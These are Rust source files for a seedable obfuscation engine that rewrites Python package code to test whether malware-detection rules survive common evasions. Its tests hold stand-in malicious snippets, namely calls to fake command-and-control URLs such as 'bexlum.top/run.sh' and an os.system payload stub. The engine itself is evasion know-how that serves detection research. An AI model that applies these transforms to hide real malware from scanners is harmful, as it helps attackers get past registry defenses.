        .collect();
    cuts.sort_unstable();
    cuts.dedup();
    let mut parts = Vec::new();
    let mut prev = 0usize;
    for &cut in cuts.iter().chain(std::iter::once(&chars.len())) {
        let piece: String = chars[prev..cut].iter().collect();
        parts.push(quote(&piece));
        prev = cut;
    }
    format!("({})", parts.join(" + "))
}

/// `bytes.fromhex('...').decode('utf-8')`
fn hex_expr(value: &str) -> String {
    let hex: String = value.bytes().map(|b| format!("{b:02x}")).collect();
    format!("bytes.fromhex('{hex}').decode('utf-8')")
}

/// `__import__('base64').b64decode('...').decode('utf-8')`
fn base64_expr(value: &str) -> String {
    format!(
        "__import__('base64').b64decode('{}').decode('utf-8')",
        digest::base64::encode(value.as_bytes())
    )
}

pub(crate) fn apply(source: &str, rng: &mut StdRng) -> String {
    let view = TokenView::new(source);
    let n = view.tokens.len();
    let mut edits = Vec::new();
    for i in 0..n {
        let TokenKind::Str { value, prefix } = view.tokens[i].kind() else {
            continue;
        };
        // Only plain strings: raw/bytes/f-strings have different runtime
        // types or interpolation, and rewriting them would change
        // behavior.
        if !prefix.is_empty() || view.in_import[i] {
            continue;
        }
        // Implicit adjacent-literal concatenation: replacing one half
        // with a parenthesized expression would turn it into a call.
        let neighbor_str = |j: Option<usize>| {
            j.and_then(|j| view.tokens.get(j))
                .is_some_and(|t| matches!(t.kind(), TokenKind::Str { .. }))
        };
        if neighbor_str(i.checked_sub(1)) || neighbor_str(Some(i + 1)) {
            continue;
        }
        // Non-ASCII values are left alone: the tolerant lexer decodes
        // high bytes as Latin-1, so re-encoding them would change the
        // runtime string and break the semantics-preserving contract.
        if value.len() < 4 || value.len() > 256 || !value.is_ascii() || !rng.gen_bool(0.85) {
            continue;
        }
        let t = &view.tokens[i];
        let replacement = match rng.gen_range(0..3u32) {
            0 => split_expr(value, rng),
            1 => hex_expr(value),
            _ => base64_expr(value),
        };
        edits.push(Edit::replace(t.start, t.end, replacement));
    }
    apply_edits(source, edits)
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn split_preserves_value() {
        let mut rng = StdRng::seed_from_u64(5);
        let e = split_expr("http://c2.evil/x", &mut rng);
        // Concatenating the parsed pieces must reproduce the original.
        let m = pysrc::parse_module(&format!("v = {e}\n"));
        let strings = pysrc::collect_strings(&m);
        let joined: String = strings.iter().map(|(s, _)| *s).collect();
        assert_eq!(joined, "http://c2.evil/x");
    }

    #[test]
    fn hex_and_base64_roundtrip() {
        assert!(hex_expr("id").contains("6964"));
        let b64 = base64_expr("os");
        let payload = b64.split('\'').nth(3).expect("payload");
        assert_eq!(digest::base64::decode(payload).expect("decodes"), b"os");
    }

    #[test]
    fn quote_escapes() {
        assert_eq!(quote("a'b\\c\nd"), "'a\\'b\\\\c\\nd'");
    }

    #[test]
    fn atoms_disappear_from_mutant() {
        let src = "url = 'http://bexlum.top/run.sh'\nrequests.get(url)\n";
        let out = apply(src, &mut StdRng::seed_from_u64(11));
        assert!(!out.contains("bexlum.top"), "{out}");
        assert!(out.contains("requests.get"));
        // Mutant still lexes and parses.
        assert!(!pysrc::parse_module(&out).body.is_empty());
    }

    #[test]
    fn raw_bytes_and_fstrings_untouched() {
        let src = "a = r'\\d+'\nb = b'blob'\nc = f'{a}!'\n";
        assert_eq!(apply(src, &mut StdRng::seed_from_u64(2)), src);
    }

    #[test]
    fn non_ascii_literals_untouched() {
        // The tolerant lexer decodes high bytes as Latin-1; re-encoding
        // a non-ASCII value would change the runtime string.
        let src = "дата = 'значение с пробелами'\nnote = 'naïve — dash'\n";
        assert_eq!(apply(src, &mut StdRng::seed_from_u64(4)), src);
    }

    #[test]
    fn adjacent_literals_untouched() {
        let src = "u = 'http://' 'evil.example'\n";
        assert_eq!(apply(src, &mut StdRng::seed_from_u64(2)), src);
    }
}

//! `obfuscate` — a deterministic, seedable adversarial mutation engine
//! for Python package sources.
//!
//! The paper's threat model is adversarial: malware authors control
//! every byte a registry scanner ingests, and LLM-generated YARA/Semgrep
//! rules are only worth deploying if they survive the cheap evasions
//! observed in live registry malware — renaming, string encoding,
//! dead-code padding, import aliasing, call indirection. This crate
//! implements those evasions as composable source-to-source
//! [`Transform`]s over [`pysrc::lex_spanned`] token spans, so the
//! evaluation can *measure* detection decay instead of guessing at it.
//!
//! Design rules:
//!
//! * **Semantics-preserving.** Every transform keeps runtime behavior
//!   (and therefore the package's ground-truth label) intact: renames
//!   are consistent and scoped away from imports/attributes/keyword
//!   arguments, encoded strings decode to the original value, injected
//!   code is unreachable or never called and uses no behavior-relevant
//!   vocabulary.
//! * **Deterministic.** A mutant is a pure function of
//!   `(source, profile, seed)`; the per-file RNG stream is derived from
//!   the seed and the file contents, so corpora regenerate byte-identically
//!   across runs and machines (the metamorphic property tests pin this).
//! * **Composable.** Profiles are ordered transform lists; each step
//!   re-lexes the previous output, so e.g. string encoding applied after
//!   call indirection hides even the `getattr` attribute names.
//!
//! # Examples
//!
//! ```
//! use obfuscate::{EvasionProfile, Obfuscator};
//!
//! let engine = Obfuscator::new(EvasionProfile::aggressive(), 42);
//! let mutant = engine.obfuscate_source("import os\nos.system('id')\n");
//! assert!(!mutant.contains("os.system"));
//! assert!(!pysrc::parse_module(&mutant).body.is_empty());
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod churn;
mod deadcode;
mod edit;
mod imports;
mod indirect;
mod profile;
mod rename;
mod strings;

pub use profile::{EvasionProfile, Transform};

use oss_registry::{Package, SourceFile};
use rand::rngs::StdRng;
use rand::SeedableRng;

/// A configured mutation engine: one profile, one seed.
#[derive(Debug, Clone)]
pub struct Obfuscator {
    profile: EvasionProfile,
    seed: u64,
}

impl Obfuscator {
    /// Creates an engine for `profile` with master `seed`.
    pub fn new(profile: EvasionProfile, seed: u64) -> Self {
        Obfuscator { profile, seed }
    }

    /// The engine's profile.
    pub fn profile(&self) -> &EvasionProfile {
        &self.profile
    }

    /// Mutates one Python source file. Deterministic in
    /// `(source, profile, seed)`: the RNG stream is keyed on the seed and
    /// the file bytes, so distinct files diverge but reruns agree.
    pub fn obfuscate_source(&self, source: &str) -> String {
        let mut rng =
            StdRng::seed_from_u64(self.seed ^ digest::fnv1a(source.as_bytes()).rotate_left(17));
        let mut out = source.to_owned();
        for t in &self.profile.transforms {
            out = t.run(&out, &mut rng);
        }
        out
    }

    /// Mutates every `.py` file of a package; metadata and non-Python
    /// files pass through untouched. The mutant is what an attacker
    /// re-uploads: same behaviors, same ground truth, different bytes.
    pub fn obfuscate_package(&self, pkg: &Package) -> Package {
        let files = pkg
            .files()
            .iter()
            .map(|f| {
                if f.path.ends_with(".py") {
                    SourceFile::new(f.path.clone(), self.obfuscate_source(&f.contents))
                } else {
                    f.clone()
                }
            })
            .collect();
        Package::new(pkg.metadata().clone(), files, pkg.ecosystem())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const SRC: &str = "\
import os\nimport base64\n\ndef run_payload(cmd):\n    data = base64.b64decode('aWQ=')\n    os.system(data.decode('utf-8'))\n\nrun_payload('http://bexlum.top/run.sh')\n";

    #[test]
    fn aggressive_mutant_changes_bytes_but_parses() {
        let engine = Obfuscator::new(EvasionProfile::aggressive(), 42);
        let out = engine.obfuscate_source(SRC);
        assert_ne!(out, SRC);
        assert!(!pysrc::parse_module(&out).body.is_empty());
    }

    #[test]
    fn same_seed_is_byte_identical() {
        let engine = Obfuscator::new(EvasionProfile::aggressive(), 7);
        assert_eq!(engine.obfuscate_source(SRC), engine.obfuscate_source(SRC));
    }

    #[test]
    fn different_seeds_diverge() {
        let a = Obfuscator::new(EvasionProfile::aggressive(), 1).obfuscate_source(SRC);
        let b = Obfuscator::new(EvasionProfile::aggressive(), 2).obfuscate_source(SRC);
        assert_ne!(a, b);
    }

    #[test]
    fn package_mutation_touches_only_python_files() {
        use oss_registry::{Ecosystem, PackageMetadata};
        let pkg = Package::new(
            PackageMetadata::new("p", "1.0"),
            vec![
                SourceFile::new("p/__init__.py", SRC),
                SourceFile::new("p/data.txt", "not code\n"),
            ],
            Ecosystem::PyPi,
        );
        let engine = Obfuscator::new(EvasionProfile::medium(), 42);
        let out = engine.obfuscate_package(&pkg);
        assert_ne!(
            out.file("p/__init__.py").expect("py").contents,
            pkg.file("p/__init__.py").expect("py").contents
        );
        assert_eq!(out.file("p/data.txt").expect("txt").contents, "not code\n");
        assert_eq!(out.metadata(), pkg.metadata());
        assert_ne!(out.signature(), pkg.signature());
    }
}

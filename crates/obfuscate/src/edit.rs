//! Span-edit machinery shared by every transform.
//!
//! Transforms never regenerate source wholesale: they lex the file with
//! [`pysrc::lex_spanned`], decide on a set of byte-range replacements,
//! and splice them back in. Everything a transform did not explicitly
//! touch — indentation, spacing, escapes — survives byte-for-byte, which
//! is what keeps the mutations semantics-preserving.

use std::collections::HashSet;

use pysrc::{SpannedToken, TokenKind};
use rand::rngs::StdRng;
use rand::Rng;

/// One pending byte-range replacement.
#[derive(Debug, Clone)]
pub(crate) struct Edit {
    /// First byte replaced.
    pub start: usize,
    /// One past the last byte replaced.
    pub end: usize,
    /// Replacement text.
    pub text: String,
}

impl Edit {
    /// Replacement of `[start, end)` with `text`.
    pub fn replace(start: usize, end: usize, text: impl Into<String>) -> Self {
        Edit {
            start,
            end,
            text: text.into(),
        }
    }

    /// Pure insertion at `at`.
    pub fn insert(at: usize, text: impl Into<String>) -> Self {
        Edit::replace(at, at, text)
    }
}

/// Applies non-overlapping edits to `source`; on overlap the earlier
/// (lower-start) edit wins and the later one is dropped.
pub(crate) fn apply_edits(source: &str, mut edits: Vec<Edit>) -> String {
    edits.sort_by_key(|e| (e.start, e.end));
    let mut out = String::with_capacity(source.len() + edits.len() * 8);
    let mut pos = 0usize;
    for e in edits {
        if e.start < pos || e.end > source.len() || !source.is_char_boundary(e.start) {
            continue;
        }
        out.push_str(&source[pos..e.start]);
        out.push_str(&e.text);
        pos = e.end;
    }
    out.push_str(&source[pos..]);
    out
}

/// A lexed file plus the per-token context every transform needs.
pub(crate) struct TokenView {
    /// The spanned token stream.
    pub tokens: Vec<SpannedToken>,
    /// Per token: does it sit inside an `import ...` / `from ... import`
    /// logical line? (Those lines are rewritten only by the dedicated
    /// aliasing transform.)
    pub in_import: Vec<bool>,
}

impl TokenView {
    /// Lexes `source` and computes token contexts.
    pub fn new(source: &str) -> Self {
        let tokens = pysrc::lex_spanned(source);
        let mut in_import = vec![false; tokens.len()];
        let mut line_start = true;
        let mut marking = false;
        for (i, t) in tokens.iter().enumerate() {
            match t.kind() {
                TokenKind::Newline => {
                    marking = false;
                    line_start = true;
                }
                TokenKind::Indent | TokenKind::Dedent | TokenKind::Comment(_) => {}
                TokenKind::Ident(w) if line_start && (w == "import" || w == "from") => {
                    marking = true;
                    in_import[i] = true;
                    line_start = false;
                }
                _ => {
                    in_import[i] = marking;
                    line_start = false;
                }
            }
        }
        TokenView { tokens, in_import }
    }

    /// The identifier text of token `i`, if it is an identifier.
    pub fn ident(&self, i: usize) -> Option<&str> {
        match self.tokens[i].kind() {
            TokenKind::Ident(w) => Some(w),
            _ => None,
        }
    }

    /// True when token `i` is the given operator glyph.
    pub fn is_op(&self, i: usize, op: &str) -> bool {
        matches!(self.tokens[i].kind(), TokenKind::Op(o) if o == op)
    }

    /// True when the token *before* `i` is the attribute dot (so `i` is
    /// an attribute name, never a bare binding).
    pub fn follows_dot(&self, i: usize) -> bool {
        i > 0 && self.is_op(i - 1, ".")
    }

    /// True when token `i` starts a logical line (preceded by nothing or
    /// by NEWLINE/INDENT/DEDENT/comment tokens only).
    pub fn at_line_start(&self, i: usize) -> bool {
        for j in (0..i).rev() {
            match self.tokens[j].kind() {
                TokenKind::Indent | TokenKind::Dedent | TokenKind::Comment(_) => continue,
                TokenKind::Newline => return true,
                _ => return false,
            }
        }
        true
    }

    /// Names that appear anywhere in keyword-argument position
    /// (`f(name=...)`) or as a defaulted parameter (`def f(name=...)`).
    /// Renaming such a name is entangled with a calling convention the
    /// rewriter cannot see whole, so transforms exclude them outright.
    pub fn kwarg_like_names(&self) -> HashSet<String> {
        let mut out = HashSet::new();
        for i in 1..self.tokens.len() {
            if let Some(w) = self.ident(i) {
                if (self.is_op(i - 1, "(") || self.is_op(i - 1, ","))
                    && i + 1 < self.tokens.len()
                    && self.is_op(i + 1, "=")
                {
                    out.insert(w.to_owned());
                }
            }
        }
        out
    }

    /// Every distinct identifier in the file (collision avoidance when
    /// minting fresh names).
    pub fn all_idents(&self) -> HashSet<String> {
        self.tokens
            .iter()
            .filter_map(|t| match t.kind() {
                TokenKind::Ident(w) => Some(w.clone()),
                _ => None,
            })
            .collect()
    }
}

/// Innocuous-looking name stems for minted identifiers and decoys.
pub(crate) const NAME_STEMS: &[&str] = &[
    "cfg", "ctx", "util", "aux", "impl", "core", "meta", "spec", "node", "item", "pool", "task",
    "unit", "slot", "page",
];

/// Mints an identifier not present in `taken`, deterministic in `rng`.
pub(crate) fn fresh_ident(rng: &mut StdRng, taken: &mut HashSet<String>) -> String {
    loop {
        let stem = NAME_STEMS[rng.gen_range(0..NAME_STEMS.len())];
        let name = format!("{stem}_{:x}", rng.gen_range(0x100u32..0xfffff));
        if !pysrc::is_keyword(&name) && taken.insert(name.clone()) {
            return name;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn edits_splice_in_order() {
        let out = apply_edits(
            "abcdef",
            vec![Edit::replace(1, 2, "XX"), Edit::insert(4, "-")],
        );
        assert_eq!(out, "aXXcd-ef");
    }

    #[test]
    fn overlapping_edit_dropped() {
        let out = apply_edits(
            "abcdef",
            vec![Edit::replace(0, 3, "Z"), Edit::replace(2, 4, "Y")],
        );
        assert_eq!(out, "Zdef");
    }

    #[test]
    fn import_lines_marked() {
        let v = TokenView::new("import os\nx = os.path\nfrom sys import argv\n");
        let marked: Vec<&str> = v
            .tokens
            .iter()
            .enumerate()
            .filter(|(i, _)| v.in_import[*i])
            .filter_map(|(_, t)| t.token.as_ident())
            .collect();
        assert!(marked.contains(&"os"));
        assert!(marked.contains(&"argv"));
        // The `os` of `os.path` is not inside an import line.
        assert_eq!(marked.iter().filter(|w| **w == "os").count(), 1);
    }

    #[test]
    fn fresh_ident_avoids_collisions() {
        let mut rng = StdRng::seed_from_u64(1);
        let mut taken: HashSet<String> = HashSet::new();
        let a = fresh_ident(&mut rng, &mut taken);
        let b = fresh_ident(&mut rng, &mut taken);
        assert_ne!(a, b);
        assert!(taken.contains(&a) && taken.contains(&b));
    }
}

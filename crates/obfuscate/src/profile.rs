//! Transforms and named evasion profiles.

use rand::rngs::StdRng;

/// One composable source-to-source mutation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Transform {
    /// Rename module-level `def`/`class` names and simple assignment
    /// targets to minted benign names.
    RenameIdentifiers,
    /// Split, hex- or base64-encode plain string literals into
    /// runtime-equivalent expressions.
    EncodeStrings,
    /// Strip existing comments; inject benign comment and blank lines.
    CommentChurn,
    /// Inject never-called decoy functions and `if False:` padding.
    DeadCodeInjection,
    /// `import X` → `import X as alias`, rewriting bare uses.
    ImportAliasing,
    /// `mod.func(...)` → `getattr(mod, 'func')(...)`.
    CallIndirection,
}

impl Transform {
    /// Every transform, in the order the aggressive profile applies them.
    pub const ALL: &'static [Transform] = &[
        Transform::ImportAliasing,
        Transform::RenameIdentifiers,
        Transform::CallIndirection,
        Transform::EncodeStrings,
        Transform::DeadCodeInjection,
        Transform::CommentChurn,
    ];

    /// Stable short name used in reports and tables.
    pub fn name(&self) -> &'static str {
        match self {
            Transform::RenameIdentifiers => "rename",
            Transform::EncodeStrings => "string-encode",
            Transform::CommentChurn => "comment-churn",
            Transform::DeadCodeInjection => "dead-code",
            Transform::ImportAliasing => "import-alias",
            Transform::CallIndirection => "call-indirect",
        }
    }

    /// Applies the transform to one source file.
    pub(crate) fn run(&self, source: &str, rng: &mut StdRng) -> String {
        match self {
            Transform::RenameIdentifiers => crate::rename::apply(source, rng),
            Transform::EncodeStrings => crate::strings::apply(source, rng),
            Transform::CommentChurn => crate::churn::apply(source, rng),
            Transform::DeadCodeInjection => crate::deadcode::apply(source, rng),
            Transform::ImportAliasing => crate::imports::apply(source, rng),
            Transform::CallIndirection => crate::indirect::apply(source, rng),
        }
    }
}

/// A named, ordered composition of transforms.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EvasionProfile {
    /// Profile name (report label).
    pub name: String,
    /// Transforms, applied in order; each re-lexes the previous output,
    /// so later transforms compound on earlier ones.
    pub transforms: Vec<Transform>,
}

impl EvasionProfile {
    /// Cosmetic churn only: comments and dead code. A lazy attacker's
    /// republish; rules keyed on code atoms should survive unchanged.
    pub fn light() -> Self {
        EvasionProfile {
            name: "light".into(),
            transforms: vec![Transform::CommentChurn, Transform::DeadCodeInjection],
        }
    }

    /// Light plus identifier renaming and import aliasing: author-chosen
    /// names stop matching, library API spellings shift.
    pub fn medium() -> Self {
        EvasionProfile {
            name: "medium".into(),
            transforms: vec![
                Transform::ImportAliasing,
                Transform::RenameIdentifiers,
                Transform::DeadCodeInjection,
                Transform::CommentChurn,
            ],
        }
    }

    /// Everything, compounded: aliasing → renaming → call indirection →
    /// string encoding → padding → churn. Almost no literal atom of the
    /// original survives.
    pub fn aggressive() -> Self {
        EvasionProfile {
            name: "aggressive".into(),
            transforms: Transform::ALL.to_vec(),
        }
    }

    /// A profile running a single transform (per-transform decay rows).
    pub fn single(t: Transform) -> Self {
        EvasionProfile {
            name: t.name().into(),
            transforms: vec![t],
        }
    }

    /// The three named profiles, weakest first.
    pub fn standard() -> Vec<EvasionProfile> {
        vec![
            EvasionProfile::light(),
            EvasionProfile::medium(),
            EvasionProfile::aggressive(),
        ]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_stable_and_distinct() {
        let names: std::collections::HashSet<&str> =
            Transform::ALL.iter().map(Transform::name).collect();
        assert_eq!(names.len(), Transform::ALL.len());
    }

    #[test]
    fn standard_profiles_grow_in_strength() {
        let p = EvasionProfile::standard();
        assert_eq!(p.len(), 3);
        assert!(p[0].transforms.len() < p[1].transforms.len());
        assert!(p[1].transforms.len() < p[2].transforms.len());
        assert_eq!(p[2].transforms.len(), Transform::ALL.len());
    }
}

//! Comment and whitespace churn.
//!
//! Strips existing comments (defeating rules that key on commented-out
//! IOC hints) and sprinkles benign-looking comment and blank lines
//! between statements. Comment-only and blank lines are invisible to the
//! interpreter — `pysrc`'s indentation handling skips them — so this is
//! trivially semantics-preserving, yet it shifts every byte offset and
//! breaks naive offset- or context-anchored signatures.

use pysrc::TokenKind;
use rand::rngs::StdRng;
use rand::Rng;

use crate::edit::{apply_edits, Edit, TokenView};

const WORDS: &[&str] = &[
    "legacy",
    "compat",
    "shim",
    "cache",
    "helper",
    "wrapper",
    "internal",
    "vendored",
    "stable",
    "fallback",
    "optimized",
    "generated",
    "refactor",
    "cleanup",
    "notes",
];

fn decoy_comment(rng: &mut StdRng) -> String {
    let a = WORDS[rng.gen_range(0..WORDS.len())];
    let b = WORDS[rng.gen_range(0..WORDS.len())];
    format!("# {a} {b} {}\n", rng.gen_range(0..100u32))
}

pub(crate) fn apply(source: &str, rng: &mut StdRng) -> String {
    let view = TokenView::new(source);
    let mut edits = Vec::new();
    for t in &view.tokens {
        match t.kind() {
            // Drop most existing comments (keep shebang/coding lines).
            TokenKind::Comment(c)
                if !c.starts_with("#!") && !c.contains("coding") && rng.gen_bool(0.7) =>
            {
                edits.push(Edit::replace(t.start, t.end, ""));
            }
            // After a statement boundary, occasionally inject churn.
            // NEWLINE tokens only exist at bracket depth zero, so the
            // insertion point is always a real line boundary.
            TokenKind::Newline if t.end > t.start => {
                if rng.gen_bool(0.2) {
                    edits.push(Edit::insert(t.end, decoy_comment(rng)));
                } else if rng.gen_bool(0.15) {
                    edits.push(Edit::insert(t.end, "\n".to_owned()));
                }
            }
            _ => {}
        }
    }
    apply_edits(source, edits)
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn injects_comments_and_strips_old_ones() {
        let src = "# C2: 1.2.3.4\nx = 1\ny = 2\nz = 3\nw = 4\n";
        let out = apply(src, &mut StdRng::seed_from_u64(1));
        assert!(!out.contains("C2: 1.2.3.4"), "{out}");
        // Statements survive with identical values.
        let m = pysrc::parse_module(&out);
        let assigns = m
            .body
            .iter()
            .filter(|s| matches!(s, pysrc::Stmt::Assign { .. }))
            .count();
        assert_eq!(assigns, 4);
    }

    #[test]
    fn indented_blocks_unbroken() {
        let src = "def f():\n    a = 1\n    b = 2\n    return a + b\n";
        let out = apply(src, &mut StdRng::seed_from_u64(9));
        let m = pysrc::parse_module(&out);
        match &m.body[0] {
            pysrc::Stmt::FunctionDef { body, .. } => assert_eq!(body.len(), 3),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn deterministic() {
        let src = "x = 1\ny = 2\n";
        let a = apply(src, &mut StdRng::seed_from_u64(3));
        let b = apply(src, &mut StdRng::seed_from_u64(3));
        assert_eq!(a, b);
    }
}

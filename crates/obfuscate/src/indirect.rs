//! Call indirection: `mod.func(...)` becomes `getattr(mod, 'func')(...)`.
//!
//! The attribute lookup is equivalent at runtime, but the dotted call
//! spelling disappears — and once the string obfuscation pass runs after
//! this one, even the attribute *name* stops existing as contiguous
//! text (`getattr(os, bytes.fromhex('73797374656d').decode('utf-8'))`).

use rand::rngs::StdRng;
use rand::Rng;

use crate::edit::{apply_edits, Edit, TokenView};

pub(crate) fn apply(source: &str, rng: &mut StdRng) -> String {
    let view = TokenView::new(source);
    let n = view.tokens.len();
    let mut edits = Vec::new();
    let mut i = 0usize;
    while i + 3 < n {
        let matched = (|| {
            let base = view.ident(i)?;
            if view.follows_dot(i)
                || view.in_import[i]
                || pysrc::is_keyword(base)
                || (i > 0 && view.is_op(i - 1, "@"))
            {
                return None;
            }
            if !view.is_op(i + 1, ".") {
                return None;
            }
            let attr = view.ident(i + 2)?;
            if pysrc::is_keyword(attr) || !view.is_op(i + 3, "(") {
                return None;
            }
            Some((base.to_owned(), attr.to_owned()))
        })();
        if let Some((base, attr)) = matched {
            if rng.gen_bool(0.7) {
                let start = view.tokens[i].start;
                let end = view.tokens[i + 2].end;
                edits.push(Edit::replace(
                    start,
                    end,
                    format!("getattr({base}, '{attr}')"),
                ));
            }
            i += 3;
        } else {
            i += 1;
        }
    }
    apply_edits(source, edits)
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn run(src: &str, seed: u64) -> String {
        apply(src, &mut StdRng::seed_from_u64(seed))
    }

    #[test]
    fn rewrites_dotted_calls() {
        let src = "import os\nos.system('id')\n";
        let out = run(src, 1);
        assert!(out.contains("getattr(os, 'system')('id')"), "{out}");
        assert!(!out.contains("os.system"), "{out}");
    }

    #[test]
    fn chained_attributes_left_alone() {
        // Only `a.b(` is rewritten; `a.b.c(` needs the full chain intact.
        let src = "os.path.join(a, b)\n";
        let out = run(src, 1);
        assert_eq!(out, src);
    }

    #[test]
    fn non_call_attributes_left_alone() {
        let src = "x = sys.argv\n";
        assert_eq!(run(src, 1), src);
    }

    #[test]
    fn mutant_parses_and_keeps_call_structure() {
        let src = "import subprocess\nsubprocess.Popen(cmd, shell=True)\n";
        let out = run(src, 3);
        let m = pysrc::parse_module(&out);
        let calls = pysrc::collect_calls(&m);
        assert!(calls
            .iter()
            .any(|c| c.func_path().starts_with("getattr") || c.func_path().contains("Popen")));
    }
}

//! Dead-code padding and decoy-function injection.
//!
//! Registry malware pads payloads with plausible-looking helper code so
//! the file's statistical shape (entropy, LoC, identifier mix) matches a
//! legitimate package. The decoys below are pure-computation functions
//! that are never called — they must not contain any API an analyzer
//! could mistake for a behavior, or the mutation would change the
//! package's ground-truth label.

use std::collections::HashSet;

use pysrc::TokenKind;
use rand::rngs::StdRng;
use rand::Rng;

use crate::edit::{apply_edits, fresh_ident, Edit, TokenView};

/// A decoy helper. Deliberately vocabulary-restricted: arithmetic,
/// strings, lists — no imports, no I/O, no dynamic execution.
fn decoy_function(rng: &mut StdRng, taken: &mut HashSet<String>) -> String {
    let name = fresh_ident(rng, taken);
    let arg = fresh_ident(rng, taken);
    match rng.gen_range(0..3u32) {
        0 => format!(
            "def {name}({arg}):\n    total = 0\n    for index in range(len({arg})):\n        total = total + index * {}\n    return total\n",
            rng.gen_range(2..9u32)
        ),
        1 => format!(
            "def {name}({arg}):\n    parts = []\n    for item in {arg}:\n        parts.append(str(item))\n    return '-'.join(parts)\n"
        ),
        _ => format!(
            "def {name}({arg}={}):\n    if {arg} % 2 == 0:\n        return {arg} // 2\n    return {arg} * 3 + 1\n",
            rng.gen_range(10..99u32)
        ),
    }
}

/// An `if False:` guarded block — dead at runtime, visible to scanners.
fn dead_branch(rng: &mut StdRng, taken: &mut HashSet<String>) -> String {
    let name = fresh_ident(rng, taken);
    format!(
        "if False:\n    {name} = [value * {} for value in range({})]\n",
        rng.gen_range(2..7u32),
        rng.gen_range(5..40u32)
    )
}

pub(crate) fn apply(source: &str, rng: &mut StdRng) -> String {
    let view = TokenView::new(source);
    let mut taken = view.all_idents();
    let n = view.tokens.len();

    // Top-level insertion points: after a NEWLINE whose next significant
    // token starts at column 0 (skipping comments/blank handling and
    // DEDENT synthesis).
    let mut points = Vec::new();
    for i in 0..n {
        let t = &view.tokens[i];
        if !matches!(t.kind(), TokenKind::Newline) || t.end == t.start {
            continue;
        }
        let mut j = i + 1;
        while j < n
            && matches!(
                view.tokens[j].kind(),
                TokenKind::Dedent | TokenKind::Comment(_) | TokenKind::Newline
            )
        {
            j += 1;
        }
        if j >= n {
            continue;
        }
        // An INDENT next means the newline opened a nested block — its
        // synthesized col 0 must not be mistaken for a top-level line.
        // A continuation clause (`else:`/`elif`/`except`/`finally`) or a
        // decorator must stay glued to its neighbor statement: splicing
        // a decoy in between would detach it.
        let glued = matches!(
            view.tokens[j].kind(),
            TokenKind::Ident(w) if matches!(w.as_str(), "else" | "elif" | "except" | "finally")
        ) || view.is_op(j, "@");
        // The line this NEWLINE terminates: a decorator line must keep
        // the following statement attached, so it is no boundary either.
        let mut first_of_line = None;
        for k in (0..i).rev() {
            match view.tokens[k].kind() {
                TokenKind::Newline | TokenKind::Indent | TokenKind::Dedent => break,
                TokenKind::Comment(_) => continue,
                _ => first_of_line = Some(k),
            }
        }
        let after_decorator = first_of_line.is_some_and(|k| view.is_op(k, "@"));
        if view.tokens[j].token.col == 0
            && !glued
            && !after_decorator
            && !matches!(view.tokens[j].kind(), TokenKind::Eof | TokenKind::Indent)
        {
            points.push(t.end);
        }
    }

    let mut edits = Vec::new();
    for &p in &points {
        if rng.gen_bool(0.12) {
            let block = if rng.gen_bool(0.3) {
                dead_branch(rng, &mut taken)
            } else {
                decoy_function(rng, &mut taken)
            };
            edits.push(Edit::insert(p, format!("\n{block}\n")));
        }
    }
    // Always at least one decoy at end of file (safe even when the file
    // ends mid-block: the leading newline re-anchors column zero).
    let tail = decoy_function(rng, &mut taken);
    let mut out = apply_edits(source, edits);
    if !out.ends_with('\n') {
        out.push('\n');
    }
    out.push_str("\n\n");
    out.push_str(&tail);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn appends_decoy_and_preserves_statements() {
        let src = "import os\nos.system('id')\n";
        let out = apply(src, &mut StdRng::seed_from_u64(1));
        assert!(out.contains("os.system('id')"));
        assert!(out.len() > src.len());
        let m = pysrc::parse_module(&out);
        assert!(m
            .body
            .iter()
            .any(|s| matches!(s, pysrc::Stmt::FunctionDef { .. })));
    }

    #[test]
    fn decoys_avoid_behavior_vocabulary() {
        let mut rng = StdRng::seed_from_u64(2);
        let mut taken = HashSet::new();
        for _ in 0..50 {
            let d = decoy_function(&mut rng, &mut taken);
            for banned in [
                "import",
                "os.",
                "sys.",
                "exec",
                "eval",
                "socket",
                "request",
                "subprocess",
                "base64",
                "open(",
            ] {
                assert!(!d.contains(banned), "decoy contains {banned}: {d}");
            }
            assert!(!pysrc::parse_module(&d).body.is_empty());
        }
    }

    #[test]
    fn clause_keywords_and_decorators_stay_glued() {
        let src = "if c:\n    a()\nelse:\n    b()\ntry:\n    r()\nexcept Exception:\n    pass\n@deco\ndef f():\n    return 0\n";
        for seed in 0..16 {
            let out = apply(src, &mut StdRng::seed_from_u64(seed));
            let m = pysrc::parse_module(&out);
            // The else/except clauses keep their bodies attached...
            let clause_bodies = m
                .body
                .iter()
                .filter(|s| {
                    matches!(s, pysrc::Stmt::Block { keyword, body, .. }
                        if (keyword == "else" || keyword == "except") && !body.is_empty())
                })
                .count();
            assert_eq!(clause_bodies, 2, "seed {seed}: {out}");
            // ...and the decorated def still follows its decorator.
            assert!(out.contains("@deco\ndef f"), "seed {seed}: {out}");
        }
    }

    #[test]
    fn insertion_points_are_top_level() {
        let src = "def f():\n    a = 1\n    b = 2\n\nx = 3\ndef g():\n    return 0\n";
        // Whatever the seed injects, the two defs keep their bodies.
        for seed in 0..8 {
            let out = apply(src, &mut StdRng::seed_from_u64(seed));
            let m = pysrc::parse_module(&out);
            let f = m.body.iter().find_map(|s| match s {
                pysrc::Stmt::FunctionDef { name, body, .. } if name == "f" => Some(body.len()),
                _ => None,
            });
            assert_eq!(f, Some(2), "seed {seed}: {out}");
        }
    }
}

//! Identifier renaming: every module-level `def`/`class` name and simple
//! assignment target is consistently replaced with a minted benign name.
//!
//! This is the cheapest real-world evasion: a republished PyPI payload
//! with `send_beacon` renamed to `cfg_3fa1` defeats any rule whose only
//! atoms are the author's function names. Attribute names (`os.system`)
//! and imported names are deliberately left alone — renaming those would
//! change behavior, and this engine only produces semantics-preserving
//! mutants.

use std::collections::{HashMap, HashSet};

use rand::rngs::StdRng;
